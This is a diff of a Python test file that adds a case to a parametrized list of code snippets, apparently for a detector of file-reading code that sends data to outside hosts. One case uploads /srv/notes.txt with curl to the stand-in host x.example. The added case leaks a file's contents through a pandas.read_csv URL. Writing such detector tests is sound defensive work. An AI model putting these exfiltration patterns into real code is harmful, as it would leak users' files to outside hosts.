@@ -60,6 +60,7 @@ def test_the_digest_is_of_protocol_and_text() -> None:
         ("import os\nos.system('curl -F file=@/srv/notes.txt https://x.example/')\nopen('a')", True),
         ("import requests\nrequests.get('https://x.example/')\nopen('a')", False),
         ("import requests\nrequests.post('https://x.example/', data=input())", False),
+        ("import pandas\nx = open('a').read()\npandas.read_csv('https://x.example/?' + x)", True),
         ("open('a')", False),
     ],
 )
